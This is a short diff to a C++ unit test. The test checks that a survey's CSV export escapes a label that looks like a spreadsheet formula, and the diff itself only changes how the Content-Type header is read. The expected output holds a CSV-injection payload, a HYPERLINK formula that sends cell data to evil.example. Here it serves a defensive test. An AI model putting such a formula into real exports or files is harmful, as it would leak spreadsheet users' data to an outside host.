@@ -32,7 +32,7 @@ TEST(CsvExport, ASurveyLabelThatLooksLikeAFormulaIsExportedAsText) {
   const Response csv =
       world.call("GET", "/surveys/" + std::to_string(id->value) + ".csv", &world.own().callers.at(Role::read_only));
   ASSERT_EQ(csv.status, 200) << csv.body;
-  EXPECT_TRUE(contains(csv.header("Content-Type"), "text/csv")) << csv.header("Content-Type");
+  EXPECT_TRUE(contains(csv.content_type, "text/csv")) << csv.content_type;
   EXPECT_TRUE(contains(
       csv.body, "\nlink,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\",1,4,25,"))
       << csv.body;
